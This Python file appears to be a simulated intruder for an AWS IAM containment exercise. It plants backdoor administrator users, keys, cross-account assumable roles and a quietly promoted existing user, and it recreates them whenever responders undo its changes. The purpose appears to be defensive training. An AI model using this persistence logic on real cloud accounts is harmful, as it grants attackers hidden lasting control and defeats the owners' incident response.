# Copyright (c) 2026, hardening.iam contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The second intruder: undoes from administrators that it made before the containment began.

It made users in all three accounts, one of them in a group, gave an old user of somebody else's the rights and a key,
and made roles that its users may assume. Each time that something of it is undone it makes one more.
"""

from __future__ import annotations

import functools
import itertools
import json
import typing as t

from intruders.base import (
    ADMINISTRATOR,
    DATA,
    DEPLOY,
    EVERYTHING,
    HOME,
    LOADER,
    OTHER_USER,
    PIPELINE,
    PROD,
    SHARED,
    USER_ARN,
    WAREHOUSE,
    Credential,
    Intruder,
    serve,
    wait_until,
)
from intruders.undoing import Undoing

_ENTRY: t.Final[t.Mapping[str, str]] = {HOME: PIPELINE, PROD: DEPLOY, DATA: WAREHOUSE}
_OWN: t.Final[t.Mapping[str, tuple[str, ...]]] = {
    HOME: (USER_ARN, PIPELINE, SHARED),
    PROD: (DEPLOY,),
    DATA: (WAREHOUSE, LOADER),
}
_OTHER: t.Final = f"arn:aws:iam::{HOME}:user/{OTHER_USER}"
_MOST_SPARES: t.Final = 6


class AdministratorIntruder(Intruder):
    """An administrator in each account, and further ones in the home of the key."""

    def __init__(self, url: str) -> None:
        super().__init__(url)
        self._undoing = Undoing(self)
        #: by account: users and roles that it made or made administrators
        self.administrators: dict[str, list[str]] = {HOME: [], PROD: [], DATA: []}
        self._spares = itertools.count(1)

    def prepare(self) -> None:
        """Make the administrators, and wait until AWS knows them."""
        able = self.walk_chain()
        for account, entry in _ENTRY.items():
            self._make_user(able[entry], account, "svc-inventory")
        self._make_member(able[PIPELINE])
        self._promote(able[PIPELINE])
        for account, entry in _ENTRY.items():
            self._make_role(able[entry], account)
        users = [arn for made in self.administrators.values() for arn in made if ":user/" in arn]
        wait_until(lambda: all(self.call(one, "iam", "list_roles") for one in self.newest(*users, most=len(users))))
        for account in self.administrators:
            self._open_roles(account)
            self._remember(account)

    def jobs(self) -> t.Iterable[tuple[t.Callable[[], object], float]]:
        """Each administrator undoes, and opens sessions of the roles."""
        for account, made in self.administrators.items():
            for arn in tuple(made):
                yield functools.partial(self._undo, account, arn), 1.0
            yield functools.partial(self._open_roles, account), 8.0
        yield self._make_spare, 6.0

    def log_in_again(self, able: t.Sequence[Credential]) -> None:
        """Also by its roles, and keys of all its users."""
        super().log_in_again(able)
        for account, made in self.administrators.items():
            for credential in (one for one in able if one.account_id in (account, HOME)):
                self.open_sessions(credential, [arn for arn in made if ":role/" in arn])
                if credential.account_id == account:
                    for user in (arn for arn in made if ":user/" in arn):
                        self.make_key([credential], user)

    # What it makes

    def _make_user(self, by: Credential, account: str, name: str) -> Credential | None:
        arn = f"arn:aws:iam::{account}:user/{name}"
        if self.call(by, "iam", "create_user", UserName=name) is None:
            return None
        self.call(by, "iam", "attach_user_policy", UserName=name, PolicyArn=ADMINISTRATOR)
        self.administrators[account].append(arn)
        return self.make_key([by], arn)

    def _make_member(self, by: Credential) -> None:
        self.call(by, "iam", "create_group", GroupName="platform")
        self.call(by, "iam", "attach_group_policy", GroupName="platform", PolicyArn=ADMINISTRATOR)
        self.call(by, "iam", "create_user", UserName="svc-reports", Path="/reports/")
        self.call(by, "iam", "add_user_to_group", GroupName="platform", UserName="svc-reports")
        arn = f"arn:aws:iam::{HOME}:user/reports/svc-reports"
        self.administrators[HOME].append(arn)
        self.make_key([by], arn)

    def _promote(self, by: Credential) -> None:
        """An old user, whom nobody suspects."""
        self.call(by, "iam", "put_user_policy", UserName=OTHER_USER, PolicyName="export", PolicyDocument=EVERYTHING)
        self.administrators[HOME].append(_OTHER)
        self.make_key([by], _OTHER)

    def _make_role(self, by: Credential, account: str) -> None:
        """Let in its users of this account, and the one at home."""
        users = sorted({f"arn:aws:iam::{one}:user/svc-inventory" for one in (account, HOME)})
        statement = {"Effect": "Allow", "Principal": {"AWS": users}, "Action": "sts:AssumeRole"}
        trust = json.dumps({"Version": "2012-10-17", "Statement": [statement]})
        self.call(by, "iam", "create_role", RoleName="console-support", AssumeRolePolicyDocument=trust)
        self.call(by, "iam", "attach_role_policy", RoleName="console-support", PolicyArn=ADMINISTRATOR)
        self.administrators[account].append(f"arn:aws:iam::{account}:role/console-support")

    def _make_spare(self) -> None:
        """One more, by whoever still can."""
        for account, made in self.administrators.items():
            by = self.newest(*made, most=6)
            # Nothing of its own is gone as long as the oldest one works.
            if not by or self.call(self.newest(made[0])[0], "iam", "get_user", UserName="svc-inventory"):
                continue
            number = next(self._spares)
            able = next((one for one in by if self.call(one, "iam", "list_roles")), None)
            if able and number <= _MOST_SPARES:
                self._make_user(able, account, f"svc-batch-{number}")

    # What it undoes

    def _remember(self, account: str) -> None:
        by = self.newest(self.administrators[account][0])[0]
        self._undoing.remember(by, *_OWN[account], *self.administrators[account])

    def _undo(self, account: str, arn: str) -> None:
        for credential in self.newest(arn, most=1):
            self._undoing.undo(credential, *_OWN[account], *self.administrators[account])

    def _open_roles(self, account: str) -> None:
        for credential in self.newest(f"arn:aws:iam::{HOME}:user/svc-inventory", most=1):
            role = f"arn:aws:iam::{account}:role/console-support"
            self.open_sessions(credential, [role, PIPELINE, SHARED] if account == HOME else [role])


if __name__ == "__main__":
    serve(AdministratorIntruder)
